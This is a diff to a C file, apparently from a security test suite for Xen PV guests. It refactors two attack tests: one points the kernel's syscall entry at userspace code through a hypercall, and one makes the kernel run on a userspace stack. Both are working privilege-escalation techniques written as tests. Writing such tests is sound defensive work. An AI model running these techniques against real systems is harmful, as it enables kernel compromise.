@@ -7,12 +7,12 @@
  */
 #include "entry.h"
 
-#include <sched.h>
 #include <sys/mman.h>
 #include <sys/syscall.h>
-#include <time.h>
 
 #include <xen/callback.h>
+
+#include "../frames/paging.h"
 
 uint64_t entry_mark[2];
 uint64_t entry_target;
@@ -26,7 +26,8 @@ void syscall_entry(void);
  * gone.
  */
 __asm__(".text\n"
-        "write_mark:\n"
+        ".globl write_entry_mark\n"
+        "write_entry_mark:\n"
         "    push %rax\n"
         "    push %rdi\n"
         "    mov entry_target(%rip), %rdi\n"
@@ -39,7 +40,7 @@ __asm__(".text\n"
         "    ret\n"
         ".globl trap_entry\n"
         "trap_entry:\n"
-        "    call write_mark\n"
+        "    call write_entry_mark\n"
         "    pop %rcx\n"
         "    pop %r11\n"
         "    push $0\n"
@@ -50,20 +51,25 @@ __asm__(".text\n"
         "    syscall\n"
         ".globl syscall_entry\n"
         "syscall_entry:\n"
-        "    call write_mark\n"
+        "    call write_entry_mark\n"
         "    jmp *entry_next(%rip)\n");
 
 void prepare_entry(void)
 {
-    cpu_set_t first;
-
-    CPU_ZERO(&first);
-    CPU_SET(0, &first);
-    sched_setaffinity(0, sizeof(first), &first);
+    stay_on_cpu(0);
     mlockall(MCL_CURRENT);
 
     memcpy(entry_mark, new_mark(), sizeof(entry_mark));
     entry_target = victim();
+}
+
+void register_callback(uint16_t type, uint64_t address)
+{
+    callback_register_t callback = { .type = type,
+                                     .flags = CALLBACKF_mask_events,
+                                     .address = address };
+
+    hypercall2(__HYPERVISOR_callback_op, CALLBACKOP_register, &callback);
 }
 
 static void trap(void *arg)
@@ -97,17 +103,11 @@ static bool enter_by_trap(void)
 
 static bool enter_by_callback(uint64_t kernel_entry)
 {
-    callback_register_t *callback = buffer(PAGE_SIZE);
-
     prepare_entry();
     entry_next = kernel_entry;
-    *callback = (callback_register_t){ .type = CALLBACKTYPE_syscall,
-                                       .flags = CALLBACKF_mask_events,
-                                       .address = (uintptr_t)syscall_entry };
-    hypercall2(__HYPERVISOR_callback_op, CALLBACKOP_register, callback);
+    register_callback(CALLBACKTYPE_syscall, (uintptr_t)syscall_entry);
     syscall(SYS_getppid);
-    callback->address = kernel_entry;
-    hypercall2(__HYPERVISOR_callback_op, CALLBACKOP_register, callback);
+    register_callback(CALLBACKTYPE_syscall, kernel_entry);
 
     return victim_has_mark();
 }
@@ -119,14 +119,12 @@ static bool enter_by_callback(uint64_t kernel_entry)
  * to code in this program. It runs with the kernel's rights, writes to a kernel
  * variable and goes on as if nothing had happened.
  */
-ATTACK("U-TRAP", "point a kernel entry at userspace code")
+PV_ATTACK("U-TRAP", "point a kernel entry at userspace code",
+          "a PVH kernel's entries are the processor's")
 {
     const uint64_t syscall_of_kernel = kernel_symbol("xen_entry_SYSCALL_64");
     bool trapped, called_back;
 
-    if ( !dom0_is_pv() )
-        return not_applicable(
-            "PV only: a PVH kernel's entries are the processor's");
     if ( !victim() || !syscall_of_kernel )
         return cannot_try("no address for the kernel's entry or variable");
 
@@ -162,23 +160,19 @@ static bool was_kernel_stack(const uint64_t *stack, size_t words)
  * entry. With it in this program's memory, another thread could change the
  * kernel's return addresses while it runs; that they are there is shown.
  */
-ATTACK("U-STACK", "run the kernel on a stack in userspace memory")
+PV_ATTACK("U-STACK", "run the kernel on a stack in userspace memory",
+          "a PVH kernel's stack pointer is the processor's")
 {
-    static const struct timespec for_a_while = { .tv_nsec = 50 * 1000 * 1000 };
     static const size_t size = 16 * PAGE_SIZE;
     uint64_t *stack = buffer(size);
     bool used;
-
-    if ( !dom0_is_pv() )
-        return not_applicable(
-            "PV only: a PVH kernel's stack pointer is the processor's");
 
     prepare_entry();
     hypercall2(__HYPERVISOR_stack_switch, 0, (uintptr_t)stack + size);
     syscall(SYS_getppid);
     used = was_kernel_stack(stack, size / sizeof(*stack));
     /* The scheduler sets the right stack again. */
-    nanosleep(&for_a_while, NULL);
+    rest(50);
 
     return effect(used, "%s",
                   used ? "the kernel's return addresses lie in userspace memory"
